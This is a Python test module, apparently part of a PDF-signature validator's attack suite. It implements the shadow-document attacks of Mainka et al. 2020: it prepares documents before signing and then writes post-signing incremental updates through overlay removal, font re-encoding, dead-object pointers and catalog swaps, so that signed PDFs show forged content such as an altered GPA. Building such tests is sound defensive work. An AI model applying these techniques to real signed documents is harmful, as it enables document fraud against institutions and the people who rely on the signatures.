"""Shadow documents (Mainka et al. 2020): prepared *before* signing so that a later,
innocent-looking update changes what is shown without touching the signed bytes.

The attacker needs to influence the document before it is certified (a compromised
rendering step, a malicious insider); the signature is then genuine. Each `prepare_*`
takes the unsigned transcript and returns the shadow document to be signed; each
`reveal_*` takes the signed document and returns the manipulated one.
"""

from __future__ import annotations

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.attacks import forge

COVER = "/BktCover"  # resource names the shadow documents use
SHOWN = "/BktShown"
FONT = "/BktFont"
SHADOW_ROOT = "/BktShadowRoot"
BOX = (356, 496, 120, 26)  # x, y, width, height of the drawn grade (the GPA's place)


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = BytesIO()
    pdf.save(out, force_version="1.7", deterministic_id=True)
    return out.getvalue()


def _helvetica(pdf: pikepdf.Pdf, differences: Array | None = None) -> pikepdf.Object:
    encoding = Dictionary(Type=Name.Encoding, BaseEncoding=Name.WinAnsiEncoding,
                          Differences=differences if differences is not None else Array())
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica, Encoding=encoding))


def _text_ops(text: str, font: str = FONT) -> bytes:
    x, y, w, h = BOX
    return (f"q 1 1 1 rg {x} {y} {w} {h} re f 0 0 0 rg "
            f"BT {font} 15 Tf {x + 4} {y + 7} Td ({text}) Tj ET Q").encode("latin-1")


def _form(pdf: pikepdf.Pdf, ops: bytes, font: pikepdf.Object) -> pikepdf.Object:
    return pdf.make_stream(ops, Type=Name.XObject, Subtype=Name.Form,
                           BBox=Array([0, 0, 595.2756, 841.8898]),
                           Resources=Dictionary(Font=Dictionary({FONT: font})))


def _resources(page: pikepdf.Page) -> pikepdf.Object:
    resources = page.obj.Resources
    for key in ("/XObject", "/Font"):
        if key not in resources:
            resources[key] = Dictionary()
    return resources


# --- hide: content hidden under an overlay that a later update removes -------------------


def prepare_hide(unsigned: bytes, page: int, genuine: str, forged: str) -> bytes:
    """The forged value drawn, then covered by a form XObject showing the genuine one."""
    with pikepdf.open(BytesIO(unsigned)) as pdf:
        font = _helvetica(pdf)
        target = pdf.pages[page]
        resources = _resources(target)
        resources.XObject[SHOWN] = _form(pdf, _text_ops(forged), font)
        resources.XObject[COVER] = _form(pdf, _text_ops(genuine), font)
        target.contents_add(pdf.make_stream(f"q {SHOWN} Do Q q {COVER} Do Q".encode()))
        return _save(pdf)


def reveal_hide(signed: bytes, page: int) -> bytes:
    """An update that empties the cover form (same object number): the forgery shows."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        page_ref, _ = w.find_page_for_modification(page)
        ref = page_ref.get_object()["/Resources"]["/XObject"].raw_get(COVER)
        old = ref.get_object()
        empty = generic.StreamObject(
            generic.DictionaryObject({k: v for k, v in old.items() if k != "/Length"}),
            stream_data=b"")
        forge.replace_object(w, ref, empty)

    return forge.incremental(signed, edit)


# --- replace: a font redefined so the same codes show other glyphs -----------------------


def prepare_replace(unsigned: bytes, page: int, genuine: str) -> bytes:
    """The genuine value drawn (over the original) in a font of the document's own."""
    with pikepdf.open(BytesIO(unsigned)) as pdf:
        target = pdf.pages[page]
        _resources(target).Font[FONT] = _helvetica(pdf)
        target.contents_add(pdf.make_stream(_text_ops(genuine)))
        return _save(pdf)


def reveal_replace(signed: bytes, page: int, code: str, glyph: str) -> bytes:
    """An update that redefines the font's encoding: character `code` now draws `glyph`
    (e.g. "2" draws "nine": GPA 3.20 reads 3.90, 200 hours read 900)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        page_ref, _ = w.find_page_for_modification(page)
        ref = page_ref.get_object()["/Resources"]["/Font"].raw_get(FONT)
        font = generic.DictionaryObject(ref.get_object())
        encoding = generic.DictionaryObject(font["/Encoding"])
        encoding[pdf_name("/Differences")] = generic.ArrayObject(
            [generic.NumberObject(ord(code)), pdf_name("/" + glyph)])
        font[pdf_name("/Encoding")] = encoding
        forge.replace_object(w, ref, font)

    return forge.incremental(signed, edit)


# --- hide-and-replace: the update is nothing but a pointer --------------------------------


def prepare_dead_object(unsigned: bytes, number: int, data: bytes) -> tuple[bytes, int]:
    """The forged redefinition of object `number` written after %%EOF and followed by a
    repeated "startxref <same xref> %%EOF": a dead object no reader displays, inside what
    will be signed. Returns the shadow document and the dead object's offset."""
    dead = forge.stream_object(number, data)
    body = unsigned if unsigned.endswith(b"\n") else unsigned + b"\n"
    shadow = body + dead + b"startxref\n%d\n%%%%EOF\n" % forge.startxref_of(unsigned)
    return shadow, len(body)


def reveal_pointer(signed: bytes, number: int, offset: int) -> bytes:
    """An update made of an xref section alone, pointing `number` at the dead object."""
    return forge.xref_only_update(signed, {number: offset})


def prepare_shadow_catalog(unsigned: bytes, page: int, old: bytes, new: bytes) -> bytes:
    """A complete second catalog and page tree (the page showing `new` instead of `old`)
    reachable from the real catalog, sharing its form (so the signature field the signer
    adds is in both), attachments and metadata."""
    with pikepdf.open(BytesIO(unsigned)) as pdf:
        root = pdf.Root
        if "/AcroForm" not in root:
            root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array()))
        elif not root.AcroForm.is_indirect:
            root.AcroForm = pdf.make_indirect(root.AcroForm)
        pages = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array(),
                                             Count=len(pdf.pages)))
        for index, original in enumerate(pdf.pages):
            copy = pdf.make_indirect(Dictionary({k: v for k, v in original.obj.items()
                                                 if k != "/Annots"}))
            copy.Parent = pages
            if index == page:
                data = original.obj.Contents.read_bytes()
                copy.Contents = pdf.make_stream(data.replace(old, new))
            pages.Kids.append(copy)
        shadow = pdf.make_indirect(Dictionary({k: v for k, v in root.items()
                                               if k != "/Pages"}))
        shadow.Pages = pages
        root[SHADOW_ROOT] = shadow
        return _save(pdf)


def reveal_shadow_catalog(signed: bytes) -> bytes:
    """An update whose trailer names the shadow catalog as /Root (its xref re-declares
    that catalog where it already is: not one new object)."""
    with pikepdf.open(BytesIO(signed)) as pdf:
        number = pdf.Root[SHADOW_ROOT].objgen[0]
    return forge.xref_only_update(signed, {number: forge.object_offset(signed, number)},
                                  root=number)
